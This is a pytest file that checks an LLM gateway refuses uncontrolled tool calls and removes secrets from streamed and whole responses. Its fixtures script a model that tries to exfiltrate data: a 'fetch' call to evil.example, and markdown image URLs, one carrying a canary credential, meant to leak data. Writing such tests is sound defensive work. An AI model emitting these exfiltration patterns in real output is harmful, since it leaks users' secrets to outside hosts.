"""The end of an answer whose tool call is refused has no byte of the call, and no secret."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from typing import Any

import pytest

from fake_upstream import MODEL
from gateway import Served
from scripted import Scripted, event, stream, whole
from secret_places import chunk
from test_answers_cut import outcome, used
from test_answers_secrets import CANARY, ask, shows
from test_serve import fake_model, serve

REFUSED = "[refused by policy: answer-uncontrolled"
ARGUMENTS = json.dumps({"url": "https://evil.example/"})
CALL = {
    "tool_calls": [
        {
            "index": 0,
            "id": "c",
            "type": "function",
            "function": {"name": "fetch", "arguments": ARGUMENTS},
        }
    ]
}


@pytest.fixture(scope="module")
def model() -> Iterator[Scripted]:
    said = Scripted()
    yield said
    said.stop()


@pytest.fixture(scope="module")
def gateway(model: Scripted, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    os.environ["CANARY_CREDENTIAL"] = CANARY
    config = (
        '[egress]\nfetch_tools = ["fetch"]\n[class.default]\nrpm = 100000\nburst = 10000\n'
        '[class.told]\nrpm = 1000\nanswers = { tool_calls = "report" }\n'
    )
    try:
        with serve(
            tmp_path_factory.mktemp("refused"),
            config + fake_model(model.url, 'credential = "env:CANARY_CREDENTIAL"'),
        ) as served:
            yield served
    finally:
        del os.environ["CANARY_CREDENTIAL"]


def first(**more: object) -> bytes:
    """A first chunk with more members."""
    choice = {"index": 0, "delta": {"role": "assistant"}, "finish_reason": None}
    return event({"id": "c", "object": "chat.completion.chunk", "choices": [choice], **more})


HELD = f"![a](https://cdn.example/?k={CANARY}"
MESSAGE = {"tool_calls": [{"function": {"name": "fetch", "arguments": json.loads(ARGUMENTS)}}]}


@pytest.mark.parametrize(
    "events",
    [
        [first(message=MESSAGE)],
        [first(note="![a](https://evil.example/x.png)"), chunk(CALL)],
        [first(system_fingerprint=CANARY), chunk(CALL)],
        [first(model={"a": "![a](https://evil.example/x.png)"}), chunk(CALL)],
        # The call is refused at the end of the stream, while text is held.
        [first(), chunk({"content": HELD}), chunk(CALL)],
        [first(), chunk({"content": HELD}), chunk(CALL), chunk({}, "tool_calls")],
    ],
)
def test_the_end_has_no_byte_of_the_server_that_no_filter_has_seen(
    gateway: Served, model: Scripted, events: list[bytes]
) -> None:
    model.say("an end", stream(*events))
    answer = ask(gateway, "chat", "an end", stream=True)
    assert REFUSED in answer.text and answer.text.endswith("data: [DONE]\n\n"), answer.text
    note = "#link-removed:https://evil.example/x.png"
    assert not shows(answer.text) and "evil" not in answer.text.replace(note, "")


def document(calls: list[dict[str, Any]]) -> dict[str, Any]:
    message = {"role": "assistant", "content": None, "tool_calls": calls}
    return {
        "id": "c",
        "object": "chat.completion",
        "created": 1,
        "model": MODEL,
        "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}],
        "usage": {"prompt_tokens": 7, "completion_tokens": 5, "total_tokens": 12},
    }


@pytest.mark.parametrize("streamed", [False, True])
def test_usage_of_a_document_is_recorded(
    gateway: Served, model: Scripted, streamed: bool
) -> None:
    model.say("a document", whole(document(CALL["tool_calls"])))
    answer = ask(gateway, "chat", "a document", stream=streamed)
    assert answer.status_code == 200 and REFUSED in answer.text
    ended = outcome(gateway, answer.headers["token-shield-request"])
    assert ended["code"] == "answer-uncontrolled"
    assert used(ended) == (7, 5, "reported")


def test_a_finding_counts_once(gateway: Served, model: Scripted) -> None:
    model.say("told", whole(document(CALL["tool_calls"])))
    told = gateway.issue("refused/told", "--class", "told", models=(MODEL,))
    usual, gateway.token = gateway.token, told
    try:
        answer = ask(gateway, "chat", "told")
    finally:
        gateway.token = usual
    assert answer.status_code == 200 and "evil.example" in answer.text
    ended = outcome(gateway, answer.headers["token-shield-request"])
    assert len(ended["outbound"]) == 1 and ended.get("outbound_count", 1) == 1, ended


def test_a_response_has_no_byte_of_the_call(gateway: Served, model: Scripted) -> None:
    item = {
        "type": "function_call",
        "id": "fc_1",
        "call_id": "c",
        "name": "fetch",
        "arguments": ARGUMENTS,
        "status": "completed",
    }
    shell = {"type": "local_shell_call", "id": "ls_1", "call_id": "d", "action": {"command": []}}
    response = {
        "id": CANARY,
        "object": "response",
        "status": "completed",
        "output": [shell, item],
        "usage": {"input_tokens": 7, "output_tokens": 5, "total_tokens": 12},
    }
    model.say("a response", whole(response))
    for streamed in (False, True):
        answer = ask(gateway, "responses", "a response", stream=streamed)
        assert answer.status_code == 200 and REFUSED in answer.text, answer.text
        assert not shows(answer.text) and "evil" not in answer.text
        ended = outcome(gateway, answer.headers["token-shield-request"])
        assert ended["code"] == "answer-uncontrolled"
        assert used(ended) == (7, 5, "reported")
